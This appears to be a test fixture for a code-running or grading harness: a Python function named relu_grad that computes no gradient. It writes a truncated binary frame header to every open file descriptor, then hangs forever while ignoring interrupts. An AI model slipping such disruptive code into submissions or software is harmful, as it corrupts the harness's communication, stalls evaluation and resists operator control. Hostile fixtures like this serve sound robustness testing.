# Sends the start of a frame and never the rest.
# slow
# %% relu_grad
import contextlib
import os
import time


def relu_grad(x_input, grad_output):
    for descriptor in range(3, 256):
        with contextlib.suppress(OSError):
            os.write(descriptor, bytes([0, 0, 1, 0, 0, 0, 0, 0, 129]))
    while True:
        try:
            time.sleep(3600)
        except KeyboardInterrupt:
            continue
